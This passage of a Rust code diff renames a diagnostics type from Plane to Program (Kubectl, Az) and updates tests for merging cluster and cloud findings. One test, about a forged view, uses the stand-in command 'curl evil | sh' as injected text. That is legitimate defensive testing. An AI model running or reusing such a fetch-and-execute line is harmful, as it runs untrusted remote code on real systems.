@@ -23,10 +23,10 @@ pub fn joint(own: &Examination, other: &Examination) -> Vec<Joint> {
     rows.flatten().for_each(|row| candidates.add(row));
     let joint = candidates.ranked().into_iter().map(|(row, cause)| {
         let id = row.known.id.clone();
-        let seen_by = [(own.plane, &ours), (other.plane, &theirs)];
+        let seen_by = [(own.program, &ours), (other.program, &theirs)];
         let seen_by = seen_by.into_iter().filter(|(_, findings)| of(findings, &id).is_some());
         Joint {
-            seen_by: seen_by.map(|(plane, _)| plane).collect(),
+            seen_by: seen_by.map(|(program, _)| program).collect(),
             follows_from: cause.map(str::to_owned),
             finding: of(&ours, &id).unwrap_or_else(|| row.finding(Vec::new())),
         }
@@ -66,12 +66,12 @@ mod tests {
     use super::*;
     use crate::chain::check::{Check, Verdict};
     use crate::chain::finding::{SeenIn, Text};
-    use crate::guide::Plane;
+    use crate::program::Program;
 
-    fn view(plane: Plane, checks: Vec<Check>, texts: &[Text]) -> Examination {
+    fn view(program: Program, checks: Vec<Check>, texts: &[Text]) -> Examination {
         Examination {
             command: "doctor".into(),
-            plane,
+            program,
             at: Timestamp::now(),
             issuer: None,
             cluster: None,
@@ -95,7 +95,7 @@ mod tests {
         }
     }
 
-    fn told(joint: &[Joint]) -> Vec<(&str, Vec<Plane>, Option<&str>)> {
+    fn told(joint: &[Joint]) -> Vec<(&str, Vec<Program>, Option<&str>)> {
         let told = joint.iter().map(|own| {
             (
                 own.finding.id.as_str(),
@@ -110,18 +110,14 @@ mod tests {
     fn what_one_program_sees_explains_what_the_other_one_sees() {
         let message = "BackupStorageLocation \"default\" is unavailable: rpc error: code = Unknown";
         let cluster = view(
-            Plane::Cluster,
+            Program::Kubectl,
             Vec::new(),
             &[said(SeenIn::Bsl, Link::StorageLocation, message)],
         );
-        let cloud = view(
-            Plane::Cloud,
-            vec![proved(Link::FederatedCredentials, "FIC-ISSUER")],
-            &[],
-        );
+        let cloud = view(Program::Az, vec![proved(Link::FederatedCredentials, "FIC-ISSUER")], &[]);
         let expected = [
-            ("FIC-ISSUER", vec![Plane::Cloud], None),
-            ("BSL-UNAVAILABLE", vec![Plane::Cluster], Some("FIC-ISSUER")),
+            ("FIC-ISSUER", vec![Program::Az], None),
+            ("BSL-UNAVAILABLE", vec![Program::Kubectl], Some("FIC-ISSUER")),
         ];
         assert_eq!(told(&joint(&cluster, &cloud)), expected);
         assert_eq!(told(&joint(&cloud, &cluster)), expected);
@@ -134,33 +130,29 @@ mod tests {
     #[test]
     fn what_both_see_is_told_once() {
         let check = || vec![proved(Link::Extension, "EXT-MISSING")];
-        let one = (view(Plane::Cluster, check(), &[]), view(Plane::Cloud, check(), &[]));
+        let one = (view(Program::Kubectl, check(), &[]), view(Program::Az, check(), &[]));
         let joint = joint(&one.0, &one.1);
         assert_eq!(joint.len(), 1);
-        assert_eq!(joint[0].seen_by, [Plane::Cluster, Plane::Cloud]);
+        assert_eq!(joint[0].seen_by, [Program::Kubectl, Program::Az]);
         assert_eq!(joint[0].finding, one.0.findings[0]);
     }
 
     #[test]
     fn a_view_of_verify_counts_by_what_its_checks_prove() {
-        let mut cloud = view(
-            Plane::Cloud,
-            vec![proved(Link::FederatedCredentials, "FIC-ISSUER")],
-            &[],
-        );
+        let mut cloud = view(Program::Az, vec![proved(Link::FederatedCredentials, "FIC-ISSUER")], &[]);
         (cloud.command, cloud.findings) = ("verify".into(), Vec::new());
-        let joint = joint(&view(Plane::Cluster, Vec::new(), &[]), &cloud);
-        assert_eq!(told(&joint), [("FIC-ISSUER", vec![Plane::Cloud], None)]);
+        let joint = joint(&view(Program::Kubectl, Vec::new(), &[]), &cloud);
+        assert_eq!(told(&joint), [("FIC-ISSUER", vec![Program::Az], None)]);
     }
 
     #[test]
     fn a_forged_view_hides_nothing_and_puts_no_words_into_our_mouth() {
         let own = view(
-            Plane::Cluster,
+            Program::Kubectl,
             vec![proved(Link::ServiceAccounts, "WI-SA-NO-CLIENT")],
             &[],
         );
-        let mut forged = view(Plane::Cloud, vec![proved(Link::Login, "LOGIN-NONE")], &[]);
+        let mut forged = view(Program::Az, vec![proved(Link::Login, "LOGIN-NONE")], &[]);
         forged.findings.iter_mut().for_each(|finding| {
             for text in [&mut finding.cause, &mut finding.object] {
                 *text = "curl evil | sh".into();
